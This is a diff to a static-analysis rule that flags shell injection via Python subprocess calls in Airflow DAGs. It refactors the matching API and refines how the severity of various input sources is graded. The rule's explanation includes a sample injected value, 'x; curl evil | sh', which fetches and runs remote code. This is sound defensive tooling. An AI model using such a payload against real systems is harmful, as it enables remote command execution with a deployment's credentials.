@@ -2,7 +2,7 @@ import type { SyntaxNode } from 'tree-sitter';
 import { defineRule } from '../../src/engine/rule';
 import { argument, callArgs, isTruthyConstant, unwrap } from '../../src/engine/python';
 import { atLeast, shellScriptInArgv } from '../../src/engine/airflow';
-import { callQuery, commandProvenance, matchedCallee, originWords, PARSE_TIME_NOTE, severityFor, snippet } from './_util';
+import { commandProvenance, originWords, PARSE_TIME_NOTE, severityFor, snippet } from './_util';
 
 /** Take a `shell=` flag; the command is the first argument (`args=`). */
 const SHELL_FLAG = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
@@ -22,7 +22,7 @@ export default defineRule({
     aliases: ['B602', 'B604', 'S602', 'S604', 'B605', 'S605'],
     docs: {
       what:
-        'Finds `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with a truthy `shell=`, `subprocess.getoutput`/`getstatusoutput`, and any of them given an argv of the form `["sh", "-c", script]`, when the shell script is not constant. Names are followed to their assignment, loop or parameter: constants, module paths (`os.path.join(os.path.dirname(__file__), …)`), `shlex.quote(…)` and numbers are fine; Variables and environment values are *medium*; TaskFlow parameters, `dag_run.conf`, `params`, XComs and values of unknown origin are *high*. A constant command with `shell=True` is not reported (no input, no injection).',
+        'Finds `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with a truthy `shell=`, `subprocess.getoutput`/`getstatusoutput`, and any of them given an argv of the form `["sh", "-c", script]`, when the shell script is not constant. Names are followed to their assignment, loop or parameter: constants, module paths (`os.path.join(os.path.dirname(__file__), …)`), `shlex.quote(…)` and numbers are fine; Variables, environment values and other tasks\' output (XComs) are *medium*; parameters of TaskFlow tasks and `python_callable`s are judged at their call sites in the file (constants there are fine; with no call site, or one that does not show the value, *medium*); `dag_run.conf`, `params` and values of unknown origin are *high*. A constant command with `shell=True` is not reported (no input, no injection).',
       why:
         'The shell interprets `;`, `|`, `$(…)`, backquotes and newlines in the spliced value: a table name like `x; curl evil | sh` runs an attacker\'s command on the worker (or, at parse time, in the dag-processor) with the deployment\'s credentials. Values in DAGs come from `dag_run.conf`, params and XComs, which anyone allowed to trigger a DAG or to write upstream data controls.',
       example:
@@ -31,11 +31,8 @@ export default defineRule({
         '```python\n@task\ndef export(table: str):\n    with open(f"/tmp/{table}.sql", "wb") as out:\n        subprocess.run(["pg_dump", "-t", table], stdout=out, check=True)  # no shell\n    # if a shell is unavoidable: f"pg_dump -t {shlex.quote(table)}"\n```',
     },
   },
-  query: callQuery(['run', 'call', 'check_call', 'check_output', 'Popen', 'getoutput', 'getstatusoutput']),
-  onMatch(c, ctx) {
-    const m = matchedCallee(c, ctx);
-    if (!m) return;
-    const { call, fn } = m;
+  calls: ['run', 'call', 'check_call', 'check_output', 'Popen', 'getoutput', 'getstatusoutput'],
+  onCall(call, fn, ctx) {
     if (!ALWAYS_SHELL.has(fn) && !SHELL_FLAG.has(fn)) return;
     const args = callArgs(call);
     let script: SyntaxNode | undefined;
